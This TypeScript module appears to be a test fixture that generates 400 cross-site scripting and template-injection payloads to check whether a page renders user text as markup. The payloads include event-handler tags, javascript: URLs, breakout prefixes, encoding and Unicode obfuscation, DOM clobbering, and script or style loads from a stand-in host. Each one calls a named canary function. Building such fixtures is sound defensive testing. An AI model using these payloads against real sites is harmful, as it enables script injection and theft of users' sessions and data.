/**
 * Texts that would become a program in a page that takes text for markup: tags × ways to run something × ways to hide
 * it × places they break out of. Each ends with its own name, such as `c017`, by which it is found on the screen; what
 * it tries to run is a function of that name, what it tries to add carries `data-canary`, and what it asks for is at
 * `canary.example`.
 */
export const SCRIPT_STRINGS = 400

/** A way to write an attack, given the call it tries to make. */
type Form = (call: string) => string

/** Elements that run something by themselves, or fetch it. */
const elements: readonly Form[] = [
  (call) => `<img data-canary src=x onerror=${call}>`,
  (call) => `<svg data-canary onload=${call}>`,
  (call) => `<script data-canary>${call}</script>`,
  () => `<script data-canary src=//canary.example/s.js></script>`,
  (call) => `<iframe data-canary srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe data-canary src="javascript:parent.${call}">`,
  (call) => `<body data-canary onload=${call}>`,
  (call) => `<video data-canary><source onerror=${call}></video>`,
  (call) => `<audio data-canary src=x onerror=${call}>`,
  (call) => `<input data-canary autofocus onfocus=${call}>`,
  (call) => `<select data-canary autofocus onfocus=${call}>`,
  (call) => `<textarea data-canary autofocus onfocus=${call}>`,
  (call) => `<details data-canary open ontoggle=${call}>`,
  (call) => `<marquee data-canary onstart=${call}>`,
  (call) => `<object data-canary data="javascript:${call}">`,
  (call) => `<embed data-canary src="javascript:${call}">`,
  (call) => `<a data-canary href="javascript:${call}">x</a>`,
  (call) => `<form data-canary action="javascript:${call}">`,
  (call) => `<button data-canary formaction=javascript:${call}>`,
  () => `<base data-canary href=//canary.example/>`,
  () => `<link data-canary rel=stylesheet href=//canary.example/s>`,
  () => `<meta data-canary http-equiv=refresh content="0;//canary.example">`,
  () => `<style data-canary>@import'//canary.example/c'</style>`,
  () => `<p data-canary style="background:url(//canary.example/b)">`,
  (call) => `<svg data-canary><animate onbegin=${call} attributeName=x>`,
  (call) => `<svg data-canary><a xlink:href="javascript:${call}"><text>x`,
  (call) => `<svg data-canary><foreignObject><img src=x onerror=${call}>`,
  () => `<svg data-canary><use href="//canary.example/u#x">`,
  (call) => `<math data-canary><mi xlink:href="javascript:${call}">x`,
  (call) => `<math data-canary><mtext><img src=x onerror=${call}>`,
  (call) => `<template data-canary><img src=x onerror=${call}>`,
  (call) => `<x-canary data-canary onpointerenter=${call} tabindex=1>`,
]

/** What stands around an attack: the place it breaks out of, or what hides it. */
const surroundings: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `">${attack}`,
  (attack) => `'>${attack}`,
  (attack) => `--></script></style></title>${attack}`,
  (attack) => `</textarea>${attack}`,
  (attack) => attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (attack) => encodeURIComponent(attack).replaceAll('%20', ' '),
  (attack) => attack.replace(/<(\w)(\w*)/g, (_, first: string, rest: string) => `<${first.toUpperCase()}${rest}`),
  // Tags in tags: a filter that takes the inner one away completes the outer one.
  (attack) => attack.replace(/^<(\w+)/, '<$1<$1>'),
  // The order in which it is read is not the order in which it stands.
  (attack) => `\u202e${attack}\u202c`,
  (attack) => attack.replace(/ on/g, '/\u200bon'),
]

/** Attacks that need no markup of ours: addresses, templates, markdown, scripts, style sheets, and names. */
const others: readonly Form[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `javascript://x%0a${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `https://x/"onmouseover="${call}`,
  (call) => `https://x/'><img data-canary src=x onerror=${call}>`,
  (call) => `http://javascript:${call}@x/`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `[x]: javascript:${call}`,
  (call) => `\`\`\`<img src=x onerror=${call}>\`\`\``,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `{{{${call}}}}`,
  (call) => `{% ${call} %}`,
  (call) => `';${call};//`,
  (call) => `";${call};//`,
  (call) => `\`;${call};//`,
  (call) => `\u2028${call}\u2029`,
  (call) => `</script><script>${call}</script>`,
  () => `}*{background:url(//canary.example/c)}`,
  (call) => `x:expression(${call})`,
  (call) => `</style><img data-canary src=x onerror=${call}>`,
  () => `<form id=canary name=body data-canary><input name=parentNode>`,
  () => `<img data-canary name=getElementById>`,
  () => `<a id=canary data-canary href=x name=cookie>`,
  () => `__proto__`,
  () => `constructor`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  (call) => `<?xml?><!DOCTYPE x [<!ENTITY e "${call}">]>&e;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\u2066moc.elpmaxe\u2069 <b data-canary onclick=${call}>`,
  () => `\u202egnp.exe`,
  () => `\u200b\u200c\u200d\ufeff`,
]

/** Short ones, for names that may have thirty signs and no more. */
const short: readonly Form[] = [
  (call) => `<svg onload=${call}>`,
  (call) => `<p onclick=${call}>`,
  (call) => `<b id=canary>${call}`,
  (call) => `"onload="${call}`,
  () => `<a href=//canary.example>`,
  () => `<i data-canary>`,
  () => `"><b data-canary>`,
  () => `'><u data-canary>`,
]

const every: readonly Form[] = [
  ...short,
  ...others,
  ...surroundings.flatMap((around) =>
    elements.map(
      (element): Form =>
        (call) =>
          around(element(call)),
    ),
  ),
]

/** All of them, each with its name at the end. */
export const scriptStrings: readonly string[] = every.slice(0, SCRIPT_STRINGS).map((form, index) => {
  const name = nameOf(index)
  return `${form(`${name}()`)}${name}`
})

export function nameOf(index: number): string {
  return `c${String(index).padStart(3, '0')}`
}

/** Those that a place with a limit takes whole. */
export const upTo = (length: number): readonly string[] => scriptStrings.filter((text) => text.length <= length)

/** One of each kind: for places that show one text at a time. */
export const oneOfEach: readonly string[] = scriptStrings.filter(
  (_, index) => index % Math.ceil(SCRIPT_STRINGS / 16) === 0,
)
